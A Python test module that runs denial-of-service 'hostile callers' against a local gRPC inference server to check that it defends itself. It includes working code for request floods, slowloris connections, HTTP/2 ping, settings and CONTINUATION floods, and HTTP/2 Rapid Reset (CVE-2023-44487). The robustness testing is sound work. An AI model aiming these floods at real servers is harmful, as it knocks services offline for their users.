"""Callers that take what they can get, one kind a function. `campaigns.hostile` runs each in processes of its own.

    python -m campaigns.hostile_callers NAME DATA_PORT HEALTH_PORT METRICS_PORT SECONDS

Prints how often it did what it does, and what came of it, as JSON. Errors are expected: a server defends itself by
refusing and by hanging up.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import random
import select
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import grpc
import grpc.aio
from grpc_health.v1 import health_pb2, health_pb2_grpc

from lineclear.v1 import inference_pb2 as pb
from lineclear.v1 import inference_pb2_grpc

SLOW = "777"
"""A conversation that begins with this is slow in the campaign's template."""
_METHOD = b"/lineclear.v1.InferenceService/"
_THREADS = 4
_outcomes: Counter[str] = Counter()
"""How calls ended: by the name of the status code, `OK` for one that did what it asked for."""


@contextlib.contextmanager
def _counted() -> Iterator[None]:
    """Count how a call ended."""
    outcome = "OK"
    try:
        yield
    except grpc.RpcError as error:
        outcome = error.code().name
    _outcomes[outcome] += 1


@dataclass(frozen=True)
class Where:
    """Ports of one server on this machine, and when to stop."""

    data: int
    health: int
    metrics: int
    end: float

    @property
    def is_over(self) -> bool:
        return time.monotonic() >= self.end

    def channel(self, aio: bool = False) -> Any:
        """A connection of its own."""
        make = grpc.aio.insecure_channel if aio else grpc.insecure_channel
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
        return make(f"127.0.0.1:{self.data}", options=options)


def _in_threads(where: Where, call: Callable[[Any], object]) -> int:
    """Make a call again and again in each of some threads, over connections of their own."""
    counts = [0] * _THREADS

    def work(number: int) -> None:
        with where.channel() as channel:
            stub = inference_pb2_grpc.InferenceServiceStub(channel)
            while not (counts[number] and where.is_over):  # once at least, however busy the machine
                with _counted():
                    call(stub)
                counts[number] += 1

    threads = [threading.Thread(target=work, args=(number,)) for number in range(_THREADS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(counts)


# --- text ------------------------------------------------------------------------------------------------------------


def _conversation(first: str, messages: int) -> pb.ChatMessages:
    contents = [first, *[""] * (messages - 1)]
    return pb.ChatMessages(messages=[pb.ChatMessage(role="user", content=content) for content in contents])


def template_flood(where: Where) -> int:
    """Conversations of very many messages."""
    request = pb.TokenizeRequest(chat=_conversation("", int(os.environ.get("HOSTILE_MESSAGES", "1024"))))
    return _in_threads(where, lambda stub: stub.Tokenize(request))


def slow_template(where: Where) -> int:
    """Conversations on which the template takes very long."""
    request = pb.TokenizeRequest(chat=_conversation(SLOW, 1))
    return _in_threads(where, lambda stub: stub.Tokenize(request, timeout=5))


def detokenize_flood(where: Where) -> int:
    """As many tokens as are taken."""
    request = pb.DetokenizeRequest(token_ids=[300] * int(os.environ.get("HOSTILE_TOKENS", "65000")))
    return _in_threads(where, lambda stub: stub.Detokenize(request))


def tokenize_flood(where: Where) -> int:
    """As long a text as is taken."""
    request = pb.TokenizeRequest(text="quick brown " * 40_000)
    return _in_threads(where, lambda stub: stub.Tokenize(request))


def resume_flood(where: Where) -> int:
    """Requests that resume after as many tokens as the context has, with stop strings to look for in them."""
    with where.channel() as channel:
        model = inference_pb2_grpc.InferenceServiceStub(channel).GetModel(pb.GetModelRequest())
    length = min(7000, model.context_length - 2)
    request = pb.GenerateRequest(
        token_ids=pb.TokenIds(ids=[5]),
        sampling={"max_tokens": length + 1, "seed": 1, "ignore_eos": True},
        stop={"strings": ["zyxwvut" * 9] * 8},
        resume=pb.Resume(token_ids=[300] * length, model_fingerprint=model.model_fingerprint),
    )
    return _in_threads(where, lambda stub: list(stub.Generate(request)))


def figures_flood(where: Where) -> int:
    """GetStats and GetModel, as fast as they come."""
    return _in_threads(where, lambda stub: (stub.GetStats(pb.GetStatsRequest()), stub.GetModel(pb.GetModelRequest())))


# --- requests --------------------------------------------------------------------------------------------------------


def cancel_storm(where: Where) -> int:
    """Requests that are cancelled as soon as they are sent, as calls of their own and over a Session."""
    return asyncio.run(_cancel_storm(where))


async def _cancel_storm(where: Where) -> int:
    count = 0
    data = pb.GenerateRequest(text="quick brown " * 20, sampling={"max_tokens": 400}).SerializeToString()

    async def calls() -> None:
        nonlocal count
        async with where.channel(aio=True) as channel:
            generate = channel.unary_stream((_METHOD + b"Generate").decode())
            while not (count and where.is_over):
                call = generate(data)
                count += 1
                await asyncio.sleep(0.002 * (count % 7 == 0))
                call.cancel()

    async def orders() -> None:
        nonlocal count
        request = pb.GenerateRequest(text="quick brown", sampling={"max_tokens": 400})
        async with where.channel(aio=True) as channel:
            session = inference_pb2_grpc.InferenceServiceStub(channel).Session()

            async def read() -> None:
                with contextlib.suppress(grpc.RpcError):
                    while await session.read() is not grpc.aio.EOF:
                        pass

            reader = asyncio.ensure_future(read())
            with contextlib.suppress(grpc.RpcError, asyncio.InvalidStateError):
                while not where.is_over:
                    handles = range(count, count + 16)
                    count += 16
                    await session.write(
                        pb.SessionRequest(
                            submits=[pb.SubmitCommand(handle=handle, request=request) for handle in handles],
                            cancels=[pb.CancelCommand(handle=handle) for handle in handles],
                        )
                    )
                    await asyncio.sleep(0.002)
            reader.cancel()

    await asyncio.gather(*(calls() for _ in range(_THREADS)), orders())
    return count


def oversized_orders(where: Where) -> int:
    """Requests larger than any that is taken, in a Session and as calls of their own."""
    request = pb.GenerateRequest(text="x" * 5_000_000)
    orders = pb.SessionRequest(submits=[pb.SubmitCommand(handle=1, request=request)])

    def call(stub: Any) -> None:
        with _counted():
            list(stub.Generate(request))
        list(stub.Session(iter([orders])))

    return _in_threads(where, call)


def heavy_orders(where: Where) -> int:
    """Requests with every list as long as it may be, most of them wrong in their last field."""
    sampling = {
        "allowed_token_ids": list(range(400)) * 10,
        "banned_token_ids": [500] * 4096,
        "logit_bias": [{"token_id": token, "bias": 1.0} for token in range(300)],
        "top_p": 7.0,
    }
    stop = {"strings": ["abcdefgh" * 7 + str(n) for n in range(8)]}
    request = pb.GenerateRequest(token_ids=pb.TokenIds(ids=[5] * 8000), sampling=sampling, stop=stop)
    orders = pb.SessionRequest(submits=[pb.SubmitCommand(handle=handle, request=request) for handle in range(32)])

    def call(stub: Any) -> None:
        with _counted():
            list(stub.Generate(request))
        list(stub.Session(iter([orders])))

    return _in_threads(where, call)


def kept_answers(where: Where) -> int:
    """Submits with all log probabilities, whose answers nobody reads."""
    output = pb.OutputOptions(logprobs=True, top_logprobs=20)
    sampling = {"max_tokens": 64, "ignore_eos": True}
    request = pb.SubmitRequest(
        request=pb.GenerateRequest(token_ids=pb.TokenIds(ids=[5]), output=output, sampling=sampling)
    )
    return _in_threads(where, lambda stub: stub.Submit(request))


# --- other services --------------------------------------------------------------------------------------------------


def watch_flood(where: Where) -> int:
    """Watchers of health at both ports, held and opened again and again."""
    return asyncio.run(_watch_flood(where))


async def _watch_flood(where: Where) -> int:
    count = 0

    async def watch(port: int) -> None:
        nonlocal count
        while not where.is_over:
            options = [("grpc.use_local_subchannel_pool", 1)]
            async with grpc.aio.insecure_channel(f"127.0.0.1:{port}", options=options) as channel:
                stub = health_pb2_grpc.HealthStub(channel)
                calls = [stub.Watch(health_pb2.HealthCheckRequest()) for _ in range(200)]
                count += len(calls)
                for call in calls:
                    with contextlib.suppress(grpc.RpcError, TimeoutError):
                        await asyncio.wait_for(call.read(), 1)
                    if where.is_over:
                        break

    await asyncio.gather(*(watch(port) for port in (where.data, where.health) for _ in range(2)))
    return count


def idle_sessions(where: Where) -> int:
    """Sessions that are opened and give no orders."""
    return asyncio.run(_idle_sessions(where))


async def _idle_sessions(where: Where) -> int:
    opened = 0
    channels = [where.channel(aio=True) for _ in range(8)]
    calls = []
    for number in range(8 * 100):
        call = inference_pb2_grpc.InferenceServiceStub(channels[number % 8]).Session()
        calls.append(call)
        with contextlib.suppress(grpc.RpcError, TimeoutError):
            await asyncio.wait_for(call.initial_metadata(), 1)
            opened += 1
        if where.is_over:
            break
    await asyncio.sleep(max(0.0, where.end - time.monotonic()))
    for channel in channels:
        await channel.close()
    return opened


def slow_scrapers(where: Where) -> int:
    """Many connections to the metrics port that send a byte now and then."""
    held: list[socket.socket] = []
    count = 0
    while not where.is_over:
        with contextlib.suppress(OSError):  # as many as it accepts
            while len(held) < 100:
                held.append(socket.create_connection(("127.0.0.1", where.metrics), 0.2))
                count += 1
        for connection in list(held):
            try:
                connection.setblocking(False)
                connection.send(b"GET /metrics HTTP/1.1\r\nX-A: a"[count % 20 :][:1])
            except OSError:
                held.remove(connection)
                connection.close()
        time.sleep(0.2)
    return count


# --- frames ----------------------------------------------------------------------------------------------------------

_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_HEADERS = 4


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
_PATH = _METHOD + b"Generate"
# POST, http, the path, an authority and the content type, as HPACK without its dynamic table.
_REQUEST = b"\x83\x86\x04" + bytes([len(_PATH)]) + _PATH + b"\x01\x01x\x0f\x10\x10application/grpc"


def _flood(where: Where, frames: Callable[[], Iterator[bytes]]) -> int:
    """Send frames as fast as they are taken, over one connection after the other."""
    count = 0
    while not (count and where.is_over):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", where.data), 5) as connection:
            connection.settimeout(1.0)
            connection.sendall(_PREFACE)
            for data in frames():
                connection.sendall(data)
                count += 1
                if _said(connection) == b"" or where.is_over:
                    break
        time.sleep(0.01)  # a connection refused at once is no reason to spin
    return count


def _said(connection: socket.socket) -> bytes | None:
    """Return what the server has said, without waiting; empty at the end, None for nothing yet."""
    return connection.recv(65536) if select.select([connection], [], [], 0)[0] else None


def _endless(data: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def frames() -> Iterator[bytes]:
        yield first
        while True:
            yield data

    return frames


def frames_of_pings(where: Where) -> int:
    """PING without end."""
    return _flood(where, _endless(_frame(_PING, 0, 0, bytes(8)) * 100))


def frames_of_settings(where: Where) -> int:
    """SETTINGS without end."""
    return _flood(where, _endless(_frame(_SETTINGS, 0, 0, struct.pack(">HI", 3, 50)) * 100))


def frames_of_empty_data(where: Where) -> int:
    """DATA without content for one request, without end."""
    return _flood(where, _endless(_frame(_DATA, 0, 1) * 100, _frame(_HEADERS, _END_HEADERS, 1, _REQUEST)))


def frames_of_continuations(where: Where) -> int:
    """A header block that never ends."""
    field = b"\x00\x03x-a\x7f\x80\x01" + b"a" * 255
    return _flood(where, _endless(_frame(_CONTINUATION, 0, 1, field), _frame(_HEADERS, 0, 1, _REQUEST)))


def frames_of_resets(where: Where) -> int:
    """Requests that are reset as soon as they are begun (CVE-2023-44487)."""

    def frames() -> Iterator[bytes]:
        stream = 1
        while True:
            data = b""
            for _ in range(20):
                data += _frame(_HEADERS, _END_HEADERS, stream, _REQUEST) + _frame(_RESET, 0, stream, bytes(3) + b"\x08")
                stream += 2
            yield data

    return _flood(where, frames)


def unfinished_requests(where: Where) -> int:
    """Requests whose message is announced and never comes to its end, as many at a time as are taken."""
    held: list[socket.socket] = []
    count = 0
    dice = random.Random(where.data)
    while not where.is_over:
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", where.data), 5)
            connection.settimeout(0.5)
            held.append(connection)
            connection.sendall(_PREFACE)
            window = [65535]
            for stream in range(1, 257, 2):
                connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, _REQUEST))
                connection.sendall(_frame(_DATA, 0, stream, b"\0" + struct.pack(">I", 900_000)))
                count += 1
            begun = time.monotonic()
            while time.monotonic() - begun < 2 and not where.is_over:
                _take_windows(connection, window)
                if window[0] < 16384:
                    time.sleep(0.01)
                    continue
                connection.sendall(_frame(_DATA, 0, 1 + 2 * dice.randrange(128), bytes(8192)))
                window[0] -= 8192
        while len(held) > 16:
            held.pop(0).close()
    return count


def _take_windows(connection: socket.socket, window: list[int]) -> None:
    """Read what the server says; its updates of the connection's window are added to `window[0]`."""
    data = _said(connection) or b""
    while len(data) >= 9:
        length, kind, stream = int.from_bytes(data[:3], "big"), data[3], int.from_bytes(data[5:9], "big")
        if kind == _WINDOW and stream == 0 and len(data) >= 13:
            window[0] += int.from_bytes(data[9:13], "big")
        data = data[9 + length :]


SERVED = ("template_flood", "detokenize_flood", "tokenize_flood", "resume_flood", "kept_answers", "figures_flood")
"""Kinds that prove nothing unless some of their calls get what they ask for."""

KINDS: dict[str, Callable[[Where], int]] = {
    kind.__name__: kind
    for kind in (
        unfinished_requests,
        cancel_storm,
        template_flood,
        slow_template,
        detokenize_flood,
        tokenize_flood,
        resume_flood,
        heavy_orders,
        oversized_orders,
        kept_answers,
        figures_flood,
        watch_flood,
        idle_sessions,
        slow_scrapers,
        frames_of_pings,
        frames_of_settings,
        frames_of_empty_data,
        frames_of_continuations,
        frames_of_resets,
    )
}


def main() -> None:
    """Do one of them for so many seconds."""
    kind, *numbers = sys.argv[1:]
    data, health, metrics, seconds = map(float, numbers)
    where = Where(int(data), int(health), int(metrics), time.monotonic() + seconds)
    times = KINDS[kind](where)
    print(json.dumps({"times": times, "outcomes": _outcomes}))


if __name__ == "__main__":
    main()
